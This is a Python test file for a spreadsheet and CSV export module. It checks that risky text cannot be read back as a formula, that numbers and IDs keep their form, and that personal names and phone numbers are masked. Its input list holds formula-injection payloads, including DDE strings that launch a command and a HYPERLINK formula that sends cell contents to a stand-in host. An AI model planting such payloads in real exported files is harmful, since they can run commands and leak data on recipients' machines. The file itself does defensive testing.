"""No cell is a formula, numbers are numbers, names keep their digits: read back by other programs."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from station_app.core import workbook
from station_app.core.cells import Column, csv_cell, guarded, unguarded
from station_app.core.csv_lines import lines
from station_app.core.sheets import Part

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("//x.example/?"&A1,"看")',
    '=DDE("cmd","/C calc","__DdeLink_60_870516294")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=\x00cmd",
    "\x00=1+1",
)
NASTY = (
    *FORMULAS,
    "'已经有撇号",
    "'=1+1",
    "😀 张桂兰 👩‍👩‍👧",
    "张" * 40,
    "a\x00b\x07c\x1fd",
    "第一行\n第二行\r\n第三行",
    'a,b;"c"\t|d',
    "_x0041_ _x0000_",
    "<b>&amp;</b>",
    "\ud83d",
    "\uffff\ufffe",
    "0012",
    "12345678901234567890",
    "x" * 40_000,
    " 前后空格 ",
)
STARTS = tuple("=+-@\t\r\n＝＋－＠")
TEXT = Column("text", "文字", "text", lambda row: row)


def as_csv(values: Any, column: Column = TEXT) -> list[str]:
    import csv

    content = b"".join(lines((column,), values)).decode("utf-8-sig")
    return [row[0] for row in csv.reader(io.StringIO(content, newline=""))][1:]


def as_book(values: Any, column: Column = TEXT) -> list[Any]:
    file = io.BytesIO()
    part = Part("表", lambda: values)
    workbook.write(file, (column,), [part], lambda count: [("行数", str(count))], "说明")
    sheet = openpyxl.load_workbook(io.BytesIO(file.getvalue())).worksheets[0]
    return [row[0] for row in sheet.iter_rows()][1:]


def harmless(text: str) -> bool:
    return not text.startswith(STARTS) and not text.lstrip(" \u3000\ufeff\u200b").startswith(STARTS)


@pytest.mark.parametrize("value", NASTY, ids=range(len(NASTY)))
def test_a_nasty_text_is_a_harmless_text_in_both_formats(value: str) -> None:
    (written,) = as_csv([value])
    (cell,) = as_book([value])
    assert harmless(written)
    assert cell.data_type in ("s", "inlineStr", "n")
    assert harmless(cell.value or "")
    assert (
        unescape(cell.value or "") == written
    )  # openpyxl reads texts that stand in the cell as they are spelled
    assert len(written) <= 32_767


@pytest.mark.parametrize("value", FORMULAS, ids=range(len(FORMULAS)))
def test_a_formula_is_still_there_to_read(value: str) -> None:
    written = as_csv([value])[0]
    assert written.startswith("'")
    bare = value.replace("\x00", "").replace("\r", "\n")
    assert unguarded(written) == bare


@pytest.mark.parametrize("value", ["张桂兰", "O'Brien", "a=b", "1+1", "", "'", "''", "ab'", "x-1"])
def test_an_ordinary_text_stays_as_it_is(value: str) -> None:
    assert guarded(value) == value or value.startswith("'")
    assert unguarded(guarded(value)) == value


@pytest.mark.parametrize("value", ["0012", "13843214417", "123456789012345678", "00000000000000000000"])
def test_a_number_that_is_a_name_keeps_its_digits(value: str) -> None:
    column = Column("number", "单号", "id", lambda row: row)
    assert unguarded(as_csv([value], column)[0]) == value
    (cell,) = as_book([value], column)
    assert (cell.data_type, cell.value) == ("s", value)


def test_numbers_are_numbers_and_days_are_days() -> None:
    at = dt.datetime(2015, 8, 31, 16, 30, tzinfo=dt.UTC)  # 00:30 of the first of September in Shanghai
    for kind, value, plain, read, shape in (
        ("money", 123_450, "1234.50", 1234.5, "#,##0.00"),
        ("money", -3_905, "-39.05", -39.05, "#,##0.00"),
        ("money", 0, "0.00", 0, "#,##0.00"),
        ("percent", 1_304, "13.0%", 0.1304, "0.0%"),
        ("percent", -305, "-3.1%", -0.0305, "0.0%"),
        ("quantity", 1_500, "1.5", 1.5, "General"),
        ("int", 65_000, "65000", 65_000, "#,##0"),
        ("date", dt.date(2015, 8, 31), "2015-08-31", dt.datetime.fromisoformat("2015-08-31"), "yyyy-mm-dd"),
        ("moment", at, "2015-09-01 00:30", dt.datetime.fromisoformat("2015-09-01T00:30"), "yyyy-mm-dd hh:mm"),
    ):
        column = Column("figure", "数", kind, lambda row: row)
        assert as_csv([value], column) == [plain]
        (cell,) = as_book([value], column)
        assert cell.value == read, kind
        assert cell.number_format == shape


def test_an_amount_a_spreadsheet_would_round_is_written_in_full() -> None:
    huge = 123_456_789_012_345_678
    column = Column("sum", "金额", "money", lambda row: row)
    assert as_book([huge], column)[0].value == "1234567890123456.78"
    assert as_csv([huge], column) == ["1234567890123456.78"]


def test_a_day_no_workbook_knows_is_written_as_words() -> None:
    column = Column("day", "日期", "date", lambda row: row)
    assert as_book([dt.date(1899, 12, 30)], column)[0].value == "1899-12-30"


def test_what_is_missing_is_an_empty_cell() -> None:
    for kind in ("text", "money", "percent", "date", "int", "id", "phone", "name", "quantity", "moment"):
        assert csv_cell(kind, None) == ""


def test_names_and_telephones_are_masked_unless_the_file_is_clear() -> None:
    name = Column("name", "姓名", "name", lambda row: row)
    phone = Column("phone", "电话", "phone", lambda row: row)
    assert name.of("张桂兰", clear=False) == "张*兰"
    assert phone.of("13843214417", clear=False) == "138****4417"
    assert name.of("张桂兰", clear=True) == "张桂兰"
    assert as_csv(["=桂兰"], name) == ["'=*兰"]
